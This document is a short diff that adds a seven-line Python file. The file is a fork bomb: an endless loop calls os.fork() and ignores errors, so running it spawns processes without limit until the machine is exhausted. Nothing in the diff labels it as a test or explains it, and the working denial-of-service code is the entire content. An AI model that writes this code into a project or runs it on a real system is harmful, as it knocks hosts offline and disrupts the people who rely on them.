@@ -1,0 +1,7 @@
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
